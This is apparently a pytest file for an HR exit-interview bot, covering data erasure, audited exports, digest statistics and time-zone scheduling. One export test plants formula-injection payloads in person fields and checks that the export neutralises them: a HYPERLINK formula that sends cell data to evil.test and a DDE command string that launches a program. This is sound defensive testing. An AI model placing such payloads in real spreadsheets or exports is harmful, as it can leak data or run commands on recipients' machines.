"""The HR desk over a real database: erasure, the audit log, digest numbers on a known data
set, scheduling across time zones. The platform directory is a fake of our Directory port."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, time

import pytest
from sqlalchemy import text

from adapters.storage.references import TEAMS_PERSON, SqlReferenceStore, person_keys
from bot.container import App
from core.departures import read_departures
from core.events import Command, UserMessage
from core.hr import REFUSAL, HrDesk, Progress
from core.interview import Person
from core.messages import DigestMessage, FileMessage, QuestionMessage, ReportMessage, TextMessage
from core.ports import RecipientUnreachable, UnknownPerson
from tests.conftest import PLATFORM, FakeChat, FakeClock

PEOPLE = {
    "UJANE": Person(PLATFORM, "UJANE", "Jane Doe", "jane@acme.test", "Asia/Tokyo"),
    "ULEO": Person(PLATFORM, "ULEO", "Leo Park", "leo@acme.test", "America/Los_Angeles"),
    "UMIA": Person(PLATFORM, "UMIA", "Mia Chen", "mia@acme.test", "Europe/Berlin"),
    "UTOM": Person(PLATFORM, "UTOM", "Tom Lee", "tom@acme.test", None),
}


@dataclass
class FakeDirectory:
    def lookup(self, user_id: str | None = None, email: str | None = None) -> Person:
        for person in PEOPLE.values():
            if person.user_id == user_id or (email and person.email == email):
                return Person(
                    person.platform,
                    person.user_id,
                    person.display_name,
                    person.email,
                    person.timezone,
                )
        raise UnknownPerson(f"no user {user_id or email}")


@pytest.fixture
def desk(app: App, clock: FakeClock) -> HrDesk:
    return HrDesk(
        actions=app.hr,
        views=app.views,
        clock=clock,
        directories={PLATFORM: FakeDirectory()},
        hr_users=frozenset({"UHR"}),
        send_time=time(10, 0),
    )


def hr(desk: HrDesk, words: str, actor: str = "UHR") -> object:
    return desk.handle(Command(PLATFORM, actor, words))


def text_of(reply: object) -> str:
    assert isinstance(reply, TextMessage)
    return reply.text


def interview(app: App, user: str, answers: list[str]) -> None:
    app.hr.start_now(PEOPLE[user], by="UHR")
    for answer in answers:
        app.conversation.handle_message(UserMessage(PLATFORM, user, answer))
    app.delivery.drain()


def count(app: App, table: str, where: str = "") -> int:
    with app.engine.connect() as connection:
        return int(connection.execute(text(f"SELECT count(*) FROM {table} {where}")).scalar_one())


def test_everyone_but_hr_gets_the_same_refusal(desk: HrDesk, app: App) -> None:
    interview(app, "UJANE", ["1"])
    for words in ("help", "report @UJANE", "status @UNOBODY", "forget @UJANE", "nonsense"):
        assert text_of(hr(desk, words, actor="UJANE")) == REFUSAL
    assert count(app, "audit_log") == 0


def test_forget_erases_the_person_everywhere_and_leaves_an_audit_line(
    desk: HrDesk, app: App
) -> None:
    interview(app, "UJANE", ["1", "Passed over for promotion because nobody owned it.", "stop"])
    interview(app, "ULEO", ["2"])
    references = SqlReferenceStore(app.engine, app.clock, PLATFORM)
    for key in [*person_keys("UJANE"), TEAMS_PERSON.format("ULEO")]:
        references.save(key, {"channel": "D1"})
    assert count(app, "answers") == 3 and count(app, "outbox") > 0
    assert "Erased everything ExitBot held about Jane Doe" in text_of(
        hr(desk, "forget jane@acme.test")
    )
    assert count(app, "people", "WHERE user_id = 'UJANE'") == 0
    assert count(app, "interviews") == 1 and count(app, "answers") == 1  # Leo's stay
    assert count(app, "interview_transitions", "WHERE reason LIKE '%stop%'") == 0
    assert count(app, "outbox", "WHERE address_id = 'UJANE'") == 0
    # Where the platform reaches her (Teams' reference, Slack's DM channel) goes too.
    assert count(app, "conversation_refs") == 1  # Leo's
    with app.engine.connect() as connection:
        [(actor, action, subject)] = connection.execute(
            text("SELECT actor, action, subject FROM audit_log")
        ).all()
    assert (actor, action, subject) == ("UHR", "forget", f"{PLATFORM}:UJANE")


def test_report_and_export_are_audited(desk: HrDesk, app: App, clock: FakeClock) -> None:
    interview(app, "UJANE", ["1", "stop"])
    report = hr(desk, "report @UJANE")
    assert isinstance(report, ReportMessage) and report.report.outcome == "DECLINED"
    assert [line.answer for line in report.report.lines] == ["Career growth"]
    clock.advance(minutes=1)
    export = hr(desk, "export 7")
    assert isinstance(export, FileMessage)
    assert export.content.startswith("\ufeffinterview_id,employee,user_id,department")
    _header, row = export.content.strip().splitlines()
    assert ",Jane Doe,UJANE," in row and ",DECLINED," in row and "career_growth" in row
    with app.engine.connect() as connection:
        actions = connection.execute(
            text("SELECT action, subject FROM audit_log ORDER BY id")
        ).all()
    assert [tuple(a) for a in actions] == [
        ("report", f"{PLATFORM}:UJANE"),
        ("export", "last 7 days: 1 interviews"),
    ]


def test_an_export_opened_in_a_spreadsheet_runs_no_formula(
    desk: HrDesk, app: App, clock: FakeClock
) -> None:
    formulas = {
        "display_name": '=HYPERLINK("http://evil.test?"&A1,"Jane")',
        "department": "+SUM(1,2)",
        "manager": "@cmd|' /C calc'!A0",
    }
    app.hr.start_now(Person(platform=PLATFORM, user_id="UEVIL", **formulas), by="UHR")
    for answer in ("1", "stop"):
        app.conversation.handle_message(UserMessage(PLATFORM, "UEVIL", answer))
    clock.advance(minutes=1)
    export = hr(desk, "export 7")
    assert isinstance(export, FileMessage)
    [row] = list(csv.DictReader(io.StringIO(export.content.removeprefix("\ufeff"))))
    assert row["employee"] == "'" + formulas["display_name"]
    assert row["department"] == "'+SUM(1,2)" and row["manager"] == "'@cmd|' /C calc'!A0"
    assert row["user_id"] == "UEVIL" and row["answered"] == "1"


def test_digest_numbers_on_a_known_data_set(
    desk: HrDesk, app: App, chat: FakeChat, clock: FakeClock
) -> None:
    # Jane: growth, rates her manager 2 (so manager_detail comes too), recommends 10.
    interview(app, "UJANE", ["1", "skip", "2", *["skip"] * 8, "10", "skip"])
    # Leo: pay, rates his manager 4, recommends 5.
    interview(app, "ULEO", ["2", "skip", "4", *["skip"] * 7, "5", "skip"])
    # Mia: her manager, then stops. Tom: never reached.
    interview(app, "UMIA", ["3", "stop"])
    chat.failures.append(RecipientUnreachable("account_inactive"))
    interview(app, "UTOM", [])
    clock.advance(hours=1)
    reply = hr(desk, "digest 7")
    assert isinstance(reply, DigestMessage)
    digest = reply.digest
    assert digest.by_state == {"COMPLETED": 2, "DECLINED": 1, "UNREACHABLE": 1}
    assert digest.response_rate == 0.5
    assert [(r.reason.value, r.count) for r in digest.reasons] == [
        ("career_growth", 1),
        ("compensation", 1),
        ("manager", 1),
    ]
    manager = next(r for r in digest.ratings if "manager" in r.question)
    assert (manager.average, manager.answers, manager.max) == (3.0, 2, 5)
    assert (digest.recommend_score, digest.recommend_answers) == (
        0,
        2,
    )  # one promoter, one detractor
    assert digest.open_now == 0


def test_same_exit_date_is_a_different_moment_in_tokyo_and_los_angeles(
    desk: HrDesk, app: App
) -> None:
    assert "Fri 06 Mar 2026 10:00 (Asia/Tokyo)" in text_of(hr(desk, "schedule @UJANE 2026-03-06"))
    assert "Fri 06 Mar 2026 10:00 (America/Los_Angeles)" in text_of(
        hr(desk, "schedule @ULEO 2026-03-06")
    )
    jane = app.conversation.current(PLATFORM, "UJANE")
    leo = app.conversation.current(PLATFORM, "ULEO")
    assert jane is not None and leo is not None
    assert jane.due_at == datetime(2026, 3, 6, 1, 0, tzinfo=UTC)
    assert leo.due_at == datetime(2026, 3, 6, 18, 0, tzinfo=UTC)
    # From Sunday 8 March Los Angeles is on daylight time: 10:00 on Monday is an hour
    # earlier in UTC.
    hr(desk, "schedule @ULEO 2026-03-09")
    leo = app.conversation.current(PLATFORM, "ULEO")
    assert leo is not None and leo.due_at == datetime(2026, 3, 9, 17, 0, tzinfo=UTC)
    # No time zone in the profile: UTC.
    hr(desk, "schedule @UTOM 2026-03-06 08:15")
    tom = app.conversation.current(PLATFORM, "UTOM")
    assert tom is not None and tom.due_at == datetime(2026, 3, 6, 8, 15, tzinfo=UTC)


def test_a_due_interview_is_opened_once_by_the_sweep(
    desk: HrDesk, app: App, chat: FakeChat, clock: FakeClock
) -> None:
    hr(desk, "schedule @UTOM 2026-03-02 09:30")
    assert app.jobs.open_due().opened == 0  # 09:00 now
    clock.advance(minutes=31)
    assert app.jobs.open_due().opened == 1
    assert app.jobs.open_due().opened == 0
    app.delivery.drain()
    assert len(chat.to_user("UTOM")) == 4
    assert "in progress" in text_of(hr(desk, "status @UTOM"))
    assert "already has an interview in progress" in text_of(hr(desk, "schedule @UTOM 2026-04-01"))


@dataclass
class ListedDirectory(FakeDirectory):
    """A directory that lists everyone at once, a page at a time, as Slack's users.list does."""

    people: int = 0
    pages: int = 0

    def lookup(self, user_id: str | None = None, email: str | None = None) -> Person:
        """One person, as users.info or users.lookupByEmail find them."""
        for person in self._listed():
            if person.user_id == user_id or (email and person.email == email):
                return person
        raise UnknownPerson(f"no user {user_id or email}")

    def _listed(self) -> list[Person]:
        return [
            Person(PLATFORM, f"UP{n:04d}", f"P {n}", f"p{n}@acme.test") for n in range(self.people)
        ]

    def everyone(self, progress: Callable[[int], None] = lambda n: None) -> list[Person]:
        listed = self._listed()
        for start in range(0, len(listed), 200):
            self.pages += 1
            progress(len(listed[start : start + 200]))
        return listed


def test_a_file_of_leavers_is_looked_up_at_once_and_scheduled_in_chunks(
    app: App, clock: FakeClock
) -> None:
    directory = ListedDirectory(people=1200)
    desk = HrDesk(
        actions=app.hr,
        views=app.views,
        clock=clock,
        directories={PLATFORM: directory},
        hr_users=frozenset({"UHR"}),
        send_time=time(10, 0),
    )
    rows = [f"p{n}@acme.test,2030-03-{1 + n % 28:02d}" for n in range(1200)]
    departures, problems = read_departures("\n".join([*rows, "ghost@acme.test,2030-03-01"]))
    assert not problems
    looked_up, scheduled = [], []
    first = desk.schedule_departures(
        PLATFORM, "UHR", departures, Progress(looked_up.append, scheduled.append), chunk=500
    )
    assert (first.scheduled, first.moved) == (1200, 0)
    assert [str(p) for p in first.problems] == ["line 1201: Test has no user ghost@acme.test."]
    assert directory.pages == 6 and sum(looked_up) == 1200 and scheduled == [500, 500, 200]
    again = desk.schedule_departures(PLATFORM, "UHR", departures)  # the same file: no change
    assert (again.scheduled, again.moved, again.unchanged) == (0, 0, 1200)
    assert len(app.views.open_interviews()) == 1200


def test_the_same_leaver_twice_in_one_file_gets_one_interview_at_the_later_date(
    app: App, clock: FakeClock
) -> None:
    desk = HrDesk(
        actions=app.hr,
        views=app.views,
        clock=clock,
        directories={PLATFORM: ListedDirectory(people=3)},
        hr_users=frozenset({"UHR"}),
        send_time=time(10, 0),
    )
    departures, _ = read_departures("p1@acme.test,2030-03-01\np1@acme.test,2030-03-08\n")
    outcome = desk.schedule_departures(PLATFORM, "UHR", departures)
    # One person, counted once (it was scheduled, then moved: two for one leaver).
    assert (outcome.scheduled, outcome.moved, outcome.problems) == (1, 0, [])
    [interview] = app.views.open_interviews()
    assert interview.exit_date is not None and interview.exit_date.day == 8


def test_hr_start_an_interview_in_a_language_and_the_employee_reads_it(
    desk: HrDesk, app: App, chat: FakeChat
) -> None:
    assert text_of(hr(desk, "start @UJANE --lang es")).startswith(
        "Started Jane Doe's exit interview (in es)"
    )
    app.delivery.drain()
    intro, notice, _, question = chat.to_user("UJANE")[:4]
    assert isinstance(intro, TextMessage) and intro.text.startswith("Hola, Jane: soy ExitBot.")
    assert isinstance(notice, TextMessage) and "RR. HH." in notice.text
    assert isinstance(question, QuestionMessage) and question.language == "es"
    assert question.text == "¿Cuál es el motivo principal por el que decidiste irte?"
    refused = text_of(hr(desk, "start @ULEO --lang it"))
    assert refused == "ExitBot cannot interview in 'it': it speaks en, de, es, fr, pt."


def test_a_leavers_file_names_each_interviews_language(desk: HrDesk, app: App) -> None:
    departures, problems = read_departures(
        "email,exit_date,language\n"
        "jane@acme.test,2030-03-01,es\n"
        "leo@acme.test,2030-03-01,it\n"
        "mia@acme.test,2030-03-01,DE-at\n"
        "tom@acme.test,2030-03-01,\n"
        "ghost@acme.test,2030-03-01,español\n"
    )
    assert [str(p) for p in problems] == [
        "line 6: “español” is not a language: write its code, e.g. es or de"
    ]
    outcome = desk.schedule_departures(PLATFORM, "UHR", departures)
    assert [str(p) for p in outcome.problems] == [
        "line 3: ExitBot cannot interview in 'it': it speaks en, de, es, fr, pt."
    ]
    spoken = {i.employee.user_id: i.language for i in app.views.open_interviews()}
    assert spoken == {"UJANE": "es", "UMIA": "de", "UTOM": None}
